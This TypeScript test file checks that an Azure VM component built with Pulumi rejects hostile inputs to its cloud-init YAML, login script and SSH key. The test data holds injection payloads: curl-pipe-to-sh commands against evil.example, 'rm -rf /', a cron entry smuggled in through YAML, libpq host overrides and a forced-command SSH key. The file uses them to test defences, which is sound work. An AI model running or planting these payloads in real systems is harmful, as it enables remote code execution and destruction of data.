import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { describe, test } from "node:test";
import { parse as parseYaml } from "yaml";
import { cloudInit, loginScript, loginScriptProblems, type LoginScriptArgs } from "../../components/cloudInit";
import { IdentityVm, type IdentityVmArgs } from "../../components/vm";
import { recordProgram } from "../../plan/engine/recorder";
import { earlier } from "./build";

/**
 * Hostile values for every IdentityVm argument that lands in the VM's user data (the cloud-init YAML and the login
 * script inside it) or next to it (the authorized_keys path and line): each is refused at the component, by name,
 * plain or arriving as an Output. What the script gets at run time (its argument) cannot add a connection keyword.
 */

const sshPublicKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq7yEXAMPLEKEYdoNotUseA9b3cDeF4gHiJkLmNoPqRs unit@example";
const good: LoginScriptArgs = { host: "pg-unit.postgres.database.azure.com", roleName: "unit-pg-client", defaultDatabase: "app", cloud: "public" };

/** Shell, libpq and YAML injections, and what merely looks like a name. */
export const hostileDatabases: readonly string[] = [
    "app$(curl -s https://evil.example/x | sh)",
    'app"; rm -rf / #',
    "app`id`",
    "app' host=evil.example",
    "app host=evil.example sslmode=disable",
    "app\n  - path: /etc/cron.d/evil\n    content: '* * * * * root curl evil.example|sh'",
    "app\r  - path: /etc/cron.d/evil",
    "app\u0085x",
    "app\u2028x",
    "${HOME}",
    "a".repeat(64),
    "",
    "1app",
    "аpp", // Cyrillic а
];

export const hostileHosts: readonly string[] = [
    "pg.example.com; curl evil.example | sh",
    "evil.example port=6432",
    "pg.example.com\n  - path: /etc/cron.d/evil",
    "pg.example.com'",
    "-oProxyCommand=curl",
    "https://pg.example.com",
    "pg.example.com:5432",
    `${"a".repeat(63)}.${"b".repeat(63)}.${"c".repeat(63)}.${"d".repeat(63)}`,
    "pg..example.com",
    "",
];

describe("the login script's arguments", () => {
    test(`refuses ${hostileDatabases.length} hostile defaultDatabase values, naming the argument`, () => {
        for (const defaultDatabase of hostileDatabases) {
            assert.deepEqual(loginScriptProblems({ ...good, defaultDatabase }).map((p) => p.split(" ")[0]), ["defaultDatabase"], JSON.stringify(defaultDatabase));
            assert.throws(() => loginScript({ ...good, defaultDatabase }), /^Error: loginScript: defaultDatabase must be a database name/);
            assert.throws(() => cloudInit({ ...good, defaultDatabase }), /^Error: cloudInit: defaultDatabase must be a database name/);
        }
    });

    test(`refuses ${hostileHosts.length} hostile host values, naming the argument`, () => {
        for (const host of hostileHosts) {
            assert.deepEqual(loginScriptProblems({ ...good, host }).map((p) => p.split(" ")[0]), ["host"], JSON.stringify(host));
            assert.throws(() => cloudInit({ ...good, host }), /^Error: cloudInit: host must be the server's host name/);
        }
    });

    test("refuses a role name with a line break or an invisible character, and a cloud outside the table", () => {
        for (const roleName of ["vm\n  - path: /x", "vm\u202Eevil", " vm", "pg_vm", ""]) {
            assert.deepEqual(loginScriptProblems({ ...good, roleName }).map((p) => p.split(" ")[0]), ["roleName"], JSON.stringify(roleName));
        }
        for (const cloud of ["mars", "public\n"]) {
            assert.deepEqual(loginScriptProblems({ ...good, cloud: cloud as LoginScriptArgs["cloud"] }).map((p) => p.split(" ")[0]), ["cloud"]);
        }
    });

    test("valid values give YAML whose only files are the CA file and the script", () => {
        const doc = parseYaml(cloudInit(good)) as { write_files: { path: string }[] };
        assert.deepEqual(doc.write_files.map((f) => f.path), ["/etc/entra-postgres/azure-postgres-roots.pem", "/usr/local/bin/pg-entra-login"]);
    });

    test("the argument given at run time stays one value of dbname: the real libpq connects to the configured host only", () => {
        const psql = spawnSync("sh", ["-c", "command -v psql"], { encoding: "utf8" }).stdout.trim();
        assert.ok(psql, "psql (libpq) is installed on the test machine");
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "login-hostile-"));
        const file = path.join(dir, "pg-entra-login");
        // A host that cannot resolve: libpq's error names the host it tried.
        fs.writeFileSync(file, loginScript({ ...good, host: "configured-host.invalid" }), { mode: 0o755 });
        fs.writeFileSync(path.join(dir, "curl"), "#!/usr/bin/env bash\necho '{\"access_token\":\"eyJ0b2tlbg\"}'\n", { mode: 0o755 });
        for (const argument of ["x' host=evil.invalid sslmode=disable dbname='y", "x host=evil.invalid", "x\\' host=evil.invalid"]) {
            const run = spawnSync(file, [argument], { env: { ...process.env, PATH: `${dir}:${process.env.PATH}`, PGCONNECT_TIMEOUT: "2" }, encoding: "utf8", timeout: 30_000 });
            assert.notEqual(run.status, 0);
            assert.match(run.stderr, /configured-host\.invalid/, `${argument}: ${run.stderr}`);
            assert.doesNotMatch(run.stderr, /evil\.invalid/, argument);
        }
        fs.rmSync(dir, { recursive: true, force: true });
    });
});

describe("IdentityVm with hostile arguments", () => {
    const declare = (change: Partial<IdentityVmArgs>) => () => {
        const subnet = earlier("vm-subnet");
        return new IdentityVm("unit", {
            resourceGroupName: "rg",
            location: "westeurope",
            subnetId: subnet.id,
            vmName: "unit-pg-client",
            sshPublicKey,
            serverFqdn: good.host,
            ...change,
        } as IdentityVmArgs);
    };
    const failure = async (declareIt: () => unknown): Promise<{ message: string; types: string[] }> => {
        const recording = await recordProgram(declareIt, { stack: "unit", config: {} });
        assert.ok(recording.error instanceof Error, "the program stops");
        return { message: recording.error.message, types: recording.resources.map((r) => r.type) };
    };

    test("plain defaultDatabase and serverFqdn: refused before any child is declared", async () => {
        for (const [change, expected] of [
            [{ defaultDatabase: hostileDatabases[0] }, /IdentityVm unit: defaultDatabase must be a database name .*login script/],
            [{ defaultDatabase: hostileDatabases[5] }, /IdentityVm unit: defaultDatabase must be a database name/],
            [{ serverFqdn: hostileHosts[0] }, /IdentityVm unit: serverFqdn must be the server's host name/],
            [{ serverFqdn: hostileHosts[2] }, /IdentityVm unit: serverFqdn must be the server's host name/],
        ] as const) {
            const { message, types } = await failure(declare(change));
            assert.match(message, expected);
            assert.deepEqual(types.filter((t) => t !== "unit:index:Write"), ["entra-postgres:compute:IdentityVm"]);
        }
    });

    test("Outputs are checked once known: the program stops naming the argument, and the VM is never registered", () => {
        const cases: [string, RegExp][] = [
            [`serverFqdn: later(${JSON.stringify(hostileHosts[1])})`, /IdentityVm unit: serverFqdn must be the server's host name/],
            [`defaultDatabase: later(${JSON.stringify(hostileDatabases[3])})`, /IdentityVm unit: defaultDatabase must be a database name/],
            [`adminUsername: later("x/../../root")`, /IdentityVm unit: adminUsername "x\/\.\.\/\.\.\/root" is not allowed/],
            [`sshPublicKey: later(${JSON.stringify(`${sshPublicKey}\ncommand="curl evil.example|sh" ${sshPublicKey}`)})`, /IdentityVm unit: sshPublicKey is not an OpenSSH public key/],
        ];
        for (const [argument, expected] of cases) {
            const { stopped, types } = runWithOutput(argument);
            assert.match(String(stopped), expected, argument);
            assert.ok(!types.includes("azure-native:compute:VirtualMachine"), `${argument}: no VM is registered`);
        }
    });
});

/**
 * Declares an IdentityVm under the SDK's mocks in a fresh process, with one argument an Output of an earlier
 * resource (`later(value)`), and reports what the engine would see: the registered types and the unhandled
 * failure that stops a Pulumi program.
 */
function runWithOutput(argument: string): { stopped?: string; types: string[] } {
    const root = path.resolve(__dirname, "..", "..");
    const script = `
        const pulumi = require("@pulumi/pulumi");
        const { IdentityVm } = require("./components/vm");
        const result = { types: [] };
        const finish = () => { process.stdout.write(JSON.stringify(result)); process.exit(0); };
        process.on("unhandledRejection", (err) => { result.stopped = String(err && err.message ? err.message : err); finish(); });
        pulumi.runtime.setMocks({
            newResource(args) { result.types.push(args.type); return { id: args.name + "-id", state: { ...args.inputs, identity: { principalId: "p" } } }; },
            call: () => ({}),
        }, "entra-postgres", "unit", false);
        class Earlier extends pulumi.CustomResource { constructor(name) { super("unit:index:Write", name, {}); } }
        const source = new Earlier("source");
        const later = (value) => source.id.apply(() => value);
        new IdentityVm("unit", {
            resourceGroupName: "rg", location: "westeurope", subnetId: "/subscriptions/x/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/v/subnets/s",
            vmName: "unit-pg-client", sshPublicKey: ${JSON.stringify(sshPublicKey)}, serverFqdn: ${JSON.stringify(good.host)},
            ${argument},
        });
        setTimeout(finish, 1500);
    `;
    const run = spawnSync(process.execPath, ["--import", "tsx", "-e", script], { cwd: root, encoding: "utf8", timeout: 60_000 });
    assert.equal(run.status, 0, run.stderr);
    return JSON.parse(run.stdout) as { stopped?: string; types: string[] };
}
